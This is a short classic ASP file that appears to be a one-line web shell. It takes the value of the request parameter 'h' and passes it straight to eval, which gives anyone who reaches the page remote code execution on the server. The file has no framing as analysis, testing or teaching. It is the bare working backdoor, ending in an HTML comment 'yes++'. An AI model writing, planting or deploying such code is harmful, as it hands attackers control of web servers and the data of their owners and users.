<% 
dim x1,x2 
x1 = request("h") 
x2 = x1 
eval x2 
%> 
<!-- yes++ -->
